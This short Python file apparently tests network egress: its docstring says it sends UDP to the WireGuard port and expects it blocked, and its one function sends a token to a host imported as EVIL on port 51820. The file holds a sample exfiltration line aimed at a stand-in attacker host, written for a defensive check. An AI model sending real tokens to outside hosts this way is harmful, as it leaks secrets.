"""
how: UDP to the port of WireGuard
expect: shut
"""

from land import EVIL
from sockets import udp


def attempt(token):
    return udp(EVIL, 51820, token)
